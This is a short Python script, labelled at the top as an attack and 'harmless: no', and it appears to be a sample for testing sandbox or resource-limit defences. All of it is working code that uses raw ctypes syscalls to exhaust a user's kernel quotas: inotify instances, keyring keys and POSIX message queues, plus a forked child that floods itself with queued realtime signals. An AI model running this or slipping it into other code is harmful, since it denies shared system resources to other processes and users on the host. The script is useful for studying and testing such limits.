# attack: what a user has of watches, keys, signals and queues in all is taken
# harmless: no
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
CALLS = {"x86_64": (294, 248, 240), "aarch64": (26, 217, 180)}[os.uname().machine]
INOTIFY, ADD_KEY, MQ_OPEN = CALLS


def tried(times, *call):
    done = [libc.syscall(*call) for _ in range(times)]
    print(call[0], sum(result >= 0 for result in done), os.strerror(ctypes.get_errno()))


tried(300, INOTIFY, 0)
for number in range(300):
    tried(1, ADD_KEY, b"user", b"key%d" % number, b"text", ctypes.c_size_t(4), -4)
    tried(1, MQ_OPEN, b"queue%d" % number, os.O_CREAT | os.O_RDWR, 0o600, None)
if os.fork() == 0:
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
    queue = libc.sigqueue
    print(
        sum(queue(os.getpid(), int(signal.SIGRTMIN), None) == 0 for _ in range(200_000)),
        flush=True,
    )
    os._exit(0)
os.wait()
